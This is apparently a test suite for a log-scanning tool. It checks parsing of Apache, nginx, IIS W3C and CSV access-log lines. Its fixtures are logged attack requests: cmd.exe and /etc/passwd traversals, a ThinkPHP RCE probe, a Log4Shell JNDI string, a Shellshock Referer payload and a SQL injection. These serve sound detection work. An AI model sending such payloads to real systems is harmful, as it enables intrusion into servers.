import assert from 'node:assert/strict';
import { parseClfLine, unescapeLogged } from '../../src/scan/formats/clf.js';
import { createCsvParser, splitCsv } from '../../src/scan/formats/csv.js';
import { sniffFormat } from '../../src/scan/formats/index.js';
import { createW3cParser } from '../../src/scan/formats/w3c.js';
import { LineSplitter } from '../../src/scan/lines.js';
import type { LogRecord } from '../../src/scan/record.js';

function record(result: LogRecord | 'skip' | null): LogRecord {
  assert.ok(result && result !== 'skip', 'expected a record');
  return result;
}

describe('access-log formats', () => {
  it('reads Apache combined lines (honeynet 2004, verbatim)', () => {
    const r = record(parseClfLine('67.20.147.88 - - [10/Oct/2004:04:56:04 -0400] "GET / HTTP/1.1" 200 2890 "-" "Mozilla/4.0 (compatible; MSIE 5.5; Windows 98)"'));
    assert.deepEqual(r, {
      ip: '67.20.147.88', at: new Date('2004-10-10T08:56:04Z'), method: 'GET', target: '/', status: 200,
      userAgent: 'Mozilla/4.0 (compatible; MSIE 5.5; Windows 98)',
    });
  });

  it('reads common log format (no referer or user agent), and a request without an HTTP version', () => {
    const r = record(parseClfLine('203.195.146.27 - - [09/Sep/2004:11:38:29 -0400] "GET /scripts/..%255c%255c../winnt/system32/cmd.exe?/c+dir" 404 - "-" "-"'));
    assert.equal(r.target, '/scripts/..%255c%255c../winnt/system32/cmd.exe?/c+dir');
    assert.equal(r.status, 404);
    const common = record(parseClfLine('1.2.3.4 - - [05/Mar/2021:09:01:38 +0100] "POST /vendor/htmlawed/htmlawed/htmLawedTest.php HTTP/1.0" 200 1513'));
    assert.equal(common.method, 'POST');
    assert.equal(common.userAgent, undefined);
  });

  it("undoes nginx's \\x5C escapes and keeps non-HTTP garbage as the target", () => {
    const r = record(parseClfLine('47.254.251.235 - - [10/Dec/2024:17:18:30 +0700] "GET /index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello HTTP/1.1" 404 153 "-" "Custom-AsyncHttpClient"'));
    assert.equal(r.target, '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello');
    assert.equal(r.at?.toISOString(), '2024-12-10T10:18:30.000Z');
    const tls = record(parseClfLine('1.2.3.4 - - [17/Oct/2023:05:57:49 +1100] "\\x16\\x03\\x01\\x01 \\x02" 400 226 "-" "-"'));
    assert.equal(tls.method, '');
    assert.equal(tls.target, '\x16\x03\x01\x01 \x02');
    assert.equal(unescapeLogged('a\\"b\\\\c'), 'a"b\\c');
  });

  it('regression: keeps the literal backslashes of an IIS traversal logged by an old Apache (Nimda cmd.exe missed)', () => {
    const line = '68.49.152.86 - - [22/Apr/2004:12:00:42 -0400] "GET /scripts/tradecli.dll?template=nonexistfile?template=..\\..\\..\\winnt\\system32\\cmd.exe?/c+dir HTTP/1.0" 404 292 "-" "Mozilla/4.75 (Nikto/1.32 )"';
    const record = parseClfLine(line);
    assert.ok(record && record !== 'skip');
    assert.equal(record.target, '/scripts/tradecli.dll?template=nonexistfile?template=..\\..\\..\\winnt\\system32\\cmd.exe?/c+dir');
    assert.equal(unescapeLogged('a\\.b\\x41\\"'), 'a\\.bA"');
  });

  it('finds the client address behind virtual-host, syslog, container and request-id prefixes', () => {
    assert.equal(record(parseClfLine('memze.ro 23.94.26.138 - - [08/Oct/2021:17:09:03 +0200] "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 400 166 "-" "-" "-"')).ip, '23.94.26.138');
    assert.equal(record(parseClfLine('Sep 15 16:13:46 ip-172-31-43-28.us-east-2.compute.internal nginx[2869]: 81.150.104.130 - - [15/Sep/2021:16:13:46 +0000] "POST /wp-login.php HTTP/1.1" 200 5364 "-" "Mozilla/5.0"')).ip, '81.150.104.130');
    assert.equal(record(parseClfLine('2022-01-28T16:04:05.413656027Z stdout F 172.18.0.1 - - [28/Jan/2022:16:04:05 +0000] "GET / HTTP/1.1" 200 13 "-" "curl/7.68.0" 80 0.000 [default-helloworld-5678] [] 10.244.0.9:5678 13 0.000 200 c99400a4db42e32187a3cbda00920e41')).ip, '172.18.0.1');
    assert.equal(record(parseClfLine('example.com 127.0.0.1 - req101 - [29/Sep/2021:17:29:58 +0200] "GET /%2fetc%2fpasswd HTTP/1.1" 404 162 "-" "curl/7.68.0"')).ip, '127.0.0.1');
    assert.equal(record(parseClfLine('2001:0db8:85a3:0000:0000:8a2e:0370:7334 - - [29/Sep/2021:14:11:34 +0200] "HEAD / HTTP/1.1" 200 0 "-" "x"')).ip, '2001:db8:85a3::8a2e:370:7334');
  });

  it('reads Log4Shell in the User-Agent as the header it was', () => {
    const r = record(parseClfLine('192.168.1.4 - - [12/Dec/2021:05:06:43 +0000] "GET / HTTP/1.1" 200 396 "-" "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}"'));
    assert.equal(r.userAgent, '${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}');
    assert.equal(r.referer, undefined);
  });

  it('rejects lines that are not access-log lines', () => {
    assert.equal(parseClfLine('[Thu Oct 13 12:24:49.880562 2022] [auth_basic:error] [pid 10:tid 140120579262208] [client 31.33.58.75:50229] AH01618: user sss not found: /'), null);
    assert.equal(parseClfLine('2021/09/30 09:23:53 [error] 1925800#1925800: *17 user "foo" was not found in "/tmp/a.htpasswd", client: 127.0.0.1'), null);
    assert.equal(parseClfLine(''), 'skip');
  });

  it('reads IIS W3C extended lines by their #Fields: header, + as space in User-Agent', () => {
    const w3c = createW3cParser();
    const data = '2015-01-13 22:29:55 100.79.192.81 GET /cms/ - 80 - 183.60.244.30 Mozilla/5.0+(Macintosh;+Intel+Mac+OS+X+10_9_4) - 404 0 2 1405 242 361';
    assert.equal(w3c.parse(data), null, 'columns unknown before #Fields:');
    assert.equal(w3c.parse('#Software: Microsoft Internet Information Services 8.5'), 'skip');
    assert.equal(w3c.parse('#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken'), 'skip');
    assert.deepEqual(record(w3c.parse(data)), {
      ip: '183.60.244.30', at: new Date('2015-01-13T22:29:55Z'), method: 'GET', target: '/cms/', status: 404,
      userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_4)',
    });
    const query = record(w3c.parse('2015-01-13 22:30:00 100.79.192.81 GET /index.php page=1 80 - 183.60.244.30 - - 200 0 0 1405 242 1'));
    assert.equal(query.target, '/index.php?page=1');
    assert.equal(w3c.parse('2015-01-13 22:30:00 too few columns'), null);
  });

  it('reads the CSV export, with backslash-escaped quotes and Shellshock in the Referer', () => {
    const csv = createCsvParser();
    assert.equal(csv.parse('"Host","Log Name","Date Time","Time Zone","Method","URL","Response Code","Bytes Sent","Referer","User Agent"'), 'skip');
    assert.deepEqual(record(csv.parse('"207.150.177.129","-","2015-09-23 08:33:45","GMT-0700","GET","/",400,537,"() { :; }; /bin/ping -c 3 82.118.236.247","-"')), {
      ip: '207.150.177.129', at: new Date('2015-09-23T15:33:45Z'), method: 'GET', target: '/', status: 400,
      referer: '() { :; }; /bin/ping -c 3 82.118.236.247',
    });
    const quoted = record(csv.parse('"78.46.34.77","-","2018-03-19 18:19:42","GMT-0700","GET","/ramble/index.php?blogId=54\\"+AND+1=2+UNION+SELECT+1337--",404,495,"-","-"'));
    assert.equal(quoted.target, '/ramble/index.php?blogId=54"+AND+1=2+UNION+SELECT+1337--');
    assert.equal(csv.parse('"1.2.3.4","-","2018-03-19 18:19:42","GMT-0700","GET","/open'), null, 'an unterminated quote is unparsable');
    assert.deepEqual(splitCsv('a,"b""c",,"d\\"e"'), ['a', 'b"c', '', 'd"e']);
  });

  it('chooses the format of a file from its first lines', () => {
    assert.equal(sniffFormat(['#Software: Microsoft Internet Information Services 8.5', '#Fields: date time c-ip cs-method cs-uri-stem', '2015-01-13 00:32:17 1.2.3.4 GET /']), 'w3c');
    assert.equal(sniffFormat(['"Host","Log Name","Date Time","Time Zone","Method","URL","Response Code","Bytes Sent","Referer","User Agent"']), 'csv');
    assert.equal(sniffFormat(['193.254.154.134 - - [10/Oct/2004:04:20:13 -0400] "GET /M83A HTTP/1.0" 404 276 "-" "-"']), 'combined');
    assert.equal(sniffFormat(['not a log at all']), null);
  });
});

describe('line splitting', () => {
  it('splits across chunk boundaries, strips CR, keeps raw bytes, and drops over-long lines as oversized', () => {
    const splitter = new LineSplitter(16);
    const lines = [
      ...splitter.push(Buffer.from('first\r\nsec')),
      ...splitter.push(Buffer.from('ond\n' + 'x'.repeat(40))),
      ...splitter.push(Buffer.from('y\nlast \x90', 'latin1')),
      ...splitter.push(Buffer.from([0x90, 0x0a])),
      ...splitter.push(Buffer.from('tail')),
      ...splitter.end(),
    ];
    assert.deepEqual(lines, ['first', 'second', { oversizedBytes: 41 }, 'last \x90\x90', 'tail']);
  });
});
